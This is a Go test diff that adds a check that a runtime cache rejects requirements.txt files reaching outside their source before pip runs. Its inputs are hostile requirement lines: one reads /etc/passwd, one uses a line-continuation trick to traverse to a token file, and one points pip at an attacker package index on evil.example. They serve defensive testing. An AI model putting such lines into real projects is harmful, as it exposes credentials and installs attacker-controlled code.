@@ -17,6 +17,7 @@ import (
 	"golang.org/x/sys/unix"
 
 	"lorrycontroller/clock"
+	"lorrycontroller/requirements"
 )
 
 const (
@@ -321,6 +322,24 @@ func TestFailedBuild(t *testing.T) {
 		t.Fatal(err)
 	}
 	env.Release()
+}
+
+// A runtime whose requirements reach outside its source (one accepted
+// before the WEBAPP refused such) is refused before pip runs.
+func TestSourceRequirementsReachingOut(t *testing.T) {
+	for _, req := range []string{"-r /etc/passwd\n", "-\\\nr ../../../token\n", "--index-url=https://evil.example/simple\n"} {
+		f := newFake(t)
+		c := newCache(t, t.TempDir())
+		_, err := c.Acquire(context.Background(), Runtime{Name: "news", ID: id1, Python: f.python},
+			sourceOf(t, map[string]string{"requirements.txt": req}))
+		var re *requirements.Error
+		if !errors.As(err, &re) || re.File != "requirements.txt" {
+			t.Errorf("%q: Acquire = %v; want a requirements.Error", req, err)
+		}
+		if b, _ := os.ReadFile(f.log); strings.Contains(string(b), "pip /") {
+			t.Errorf("%q: pip ran:\n%s", req, b)
+		}
+	}
 }
 
 func TestSourceWithoutRequirements(t *testing.T) {
